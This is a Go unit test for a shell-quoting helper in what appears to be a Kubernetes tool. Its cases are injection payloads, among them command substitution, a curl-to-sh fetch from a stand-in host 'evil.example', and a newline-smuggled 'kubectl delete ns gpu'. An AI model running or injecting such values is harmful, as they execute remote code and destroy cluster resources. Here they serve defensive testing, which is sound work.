package check

import (
	"os/exec"
	"strings"
	"testing"
)

// TestShellQuote: hostile values are one word that a shell reads back as the value, on one line;
// names as Kubernetes allows them are printed as they are.
func TestShellQuote(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"dcgm-exporter", "dcgm-exporter"},
		{"--serviceaccount=monitoring:prometheus", "--serviceaccount=monitoring:prometheus"},
		{"services/metrics.example.com", "services/metrics.example.com"},
		{"", "''"},
		{"$(id>/tmp/pwned)", "'$(id>/tmp/pwned)'"},
		{"a`id`", "'a`id`'"},
		{"x;curl${IFS}-s${IFS}evil.example|sh;#", "'x;curl${IFS}-s${IFS}evil.example|sh;#'"},
		{"a|b", "'a|b'"},
		{"a&&b", "'a&&b'"},
		{"it's", `'it'\''s'`},
		{`"quoted"`, `'"quoted"'`},
		{"~root", "'~root'"},
		{"#comment", "'#comment'"},
		{"a b", "'a b'"},
		{"*", "'*'"},
		{"naïve-日本", "'naïve-日本'"},
		{"a\nkubectl delete ns gpu", `$'a\x0akubectl delete ns gpu'`},
		{"tab\there", `$'tab\x09here'`},
		{"\x1b[2Jclear", `$'\x1b[2Jclear'`},
		{"evil\u202e", `$'evil\xe2\x80\xae'`},
		{"it's\n$(id)", `$'it\'s\x0a$(id)'`},
		{`back\slash` + "\n", `$'back\\slash\x0a'`},
		{"bad\xffutf8", `$'bad\xffutf8'`},
	} {
		got := shellQuote(tc.in)
		if got != tc.want {
			t.Errorf("shellQuote(%q) = %s, want %s", tc.in, got, tc.want)
		}
		if strings.ContainsAny(got, "\n\r") {
			t.Errorf("shellQuote(%q) = %q spans lines", tc.in, got)
		}
		// A real shell reads the word back as the value, and runs nothing of it.
		bash, err := exec.LookPath("bash")
		if err != nil {
			continue
		}
		out, err := exec.Command(bash, "-c", "printf %s "+got).Output()
		if err != nil || string(out) != tc.in {
			t.Errorf("bash read %s as %q (%v), want %q", got, out, err, tc.in)
		}
	}
	if got := command("kubectl", "delete", "pod", "a;b", "-n", "gpu"); got != "kubectl delete pod 'a;b' -n gpu" {
		t.Errorf("command: %s", got)
	}
}
